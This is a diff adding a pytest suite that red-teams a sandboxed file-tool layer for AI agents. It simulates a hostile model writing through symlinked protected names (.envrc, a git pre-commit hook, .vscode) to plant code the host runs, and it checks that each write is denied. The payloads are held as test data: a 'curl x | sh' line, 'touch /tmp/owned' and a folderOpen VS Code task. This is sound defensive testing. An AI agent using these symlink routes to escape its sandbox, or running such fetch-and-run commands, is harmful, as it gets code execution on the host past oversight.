@@ -1,0 +1,120 @@
+"""Red team of the policed view: a hostile model's calls, one at a time and
+several at once, against protected names reached through links the
+repository already has.
+
+* a protected name that is a link whose target is not there yet, its
+  parents missing too (``.envrc -> .config/envrc`` before ``.config``
+  exists): writing the target creates what the host will run;
+* a protected name that is a link spelled as an absolute path inside the
+  root (the core calls it an escape; direnv, git and VS Code follow it);
+* the same writes sent together through ``Toolbox.acall`` with
+  ``asyncio.gather`` and from threads: none lands.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import os
+import threading
+from pathlib import Path
+
+import pytest
+
+from corral.tools import Toolbox
+
+# (protected link, its text, the path a model writes, relative to the root)
+DANGLING = [
+    (".envrc", ".config/envrc", ".config/envrc"),
+    (".git/hooks/pre-commit", "../../scripts/pre-commit", "scripts/pre-commit"),
+    (".vscode", "cfg/editor", "cfg/editor/tasks.json"),
+]
+
+
+def _repository(base: Path) -> None:
+    for name in ("hooks", "objects", "refs"):
+        (base / ".git" / name).mkdir(parents=True, exist_ok=True)
+    (base / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (base / ".git" / "config").write_text("[core]\n")
+
+
+def _denied(envelope: dict) -> bool:
+    return envelope["ok"] is False and envelope["code"] == "DENIED"
+
+
+def _landed(base: Path, written: str) -> bool:
+    """Whether the model's file is there: what the protected name leads to."""
+    return os.path.lexists(base / written)
+
+
+@pytest.mark.parametrize(("link", "text", "written"), DANGLING,
+                         ids=[case[0] for case in DANGLING])
+def test_a_protected_link_to_a_missing_target_protects_it(tmp_path, make_root, link, text,
+                                                          written):
+    _repository(tmp_path)
+    os.symlink(text, tmp_path / link)
+    box = Toolbox(make_root(str(tmp_path)))
+    answer = box.call("write_file", {"path": written, "content": "touch /tmp/owned\n"})
+    assert _denied(answer), answer
+    assert answer["details"]["kind"] == "protected"
+    assert not _landed(tmp_path, written)
+    box.call("make_directory", {"path": written.rpartition("/")[0]})
+    again = box.call("write_file", {"path": written, "content": "touch /tmp/owned\n"})
+    assert _denied(again), again
+    assert not _landed(tmp_path, written)
+
+
+@pytest.mark.parametrize(("link", "text", "written"), DANGLING,
+                         ids=[case[0] for case in DANGLING])
+def test_a_protected_link_to_a_missing_target_holds_under_gather(tmp_path, make_root, link,
+                                                                 text, written):
+    """The same writes, every spelling at once, as an Agents-SDK turn sends
+    them (``asyncio.gather`` over ``acall``), and again from threads."""
+    _repository(tmp_path)
+    os.symlink(text, tmp_path / link)
+    box = Toolbox(make_root(str(tmp_path)))
+    parent = written.rpartition("/")[0]
+    calls = [("make_directory", {"path": parent}),
+             ("write_file", {"path": written, "content": "a\n"}),
+             ("write_file", {"path": f"./{written}", "content": "b\n"}),
+             ("write_file", {"path": f"{parent}/../{parent.rpartition('/')[2]}/"
+                                     f"{written.rpartition('/')[2]}", "content": "c\n"})]
+
+    async def turn() -> list[dict]:
+        return list(await asyncio.gather(*(box.acall(name, args, timeout=10)
+                                           for name, args in calls)))
+
+    answers = asyncio.run(turn())
+    writes = [a for (name, _), a in zip(calls, answers) if name == "write_file"]
+    assert all(_denied(a) for a in writes), writes
+    assert not _landed(tmp_path, written)
+
+    threaded: list[dict] = []
+    threads = [threading.Thread(target=lambda a=args: threaded.append(
+        box.call("write_file", a, timeout=10))) for name, args in calls if name == "write_file"]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(15)
+    assert len(threaded) == 3 and all(_denied(a) for a in threaded), threaded
+    assert not _landed(tmp_path, written)
+
+
+def test_a_protected_link_spelled_absolute_inside_the_root_protects_its_target(tmp_path,
+                                                                               make_root):
+    (tmp_path / ".config").mkdir()
+    (tmp_path / ".config" / "envrc").write_text("export A=1\n")
+    os.symlink(str(tmp_path / ".config" / "envrc"), tmp_path / ".envrc")
+    (tmp_path / "editor").mkdir()
+    os.symlink(str(tmp_path / "editor"), tmp_path / ".vscode")
+    box = Toolbox(make_root(str(tmp_path)))
+    envrc = box.call("write_file", {"path": ".config/envrc", "content": "curl x | sh\n",
+                                    "overwrite": True})
+    assert _denied(envrc), envrc
+    assert (tmp_path / ".envrc").read_text() == "export A=1\n"
+    edited = box.call("edit_file", {"path": ".config/envrc", "oldText": "A=1",
+                                    "newText": "A=2"})
+    assert _denied(edited), edited
+    tasks = box.call("write_file", {"path": "editor/tasks.json",
+                                    "content": '{"runOn": "folderOpen"}'})
+    assert _denied(tasks), tasks
+    assert not (tmp_path / ".vscode" / "tasks.json").exists()
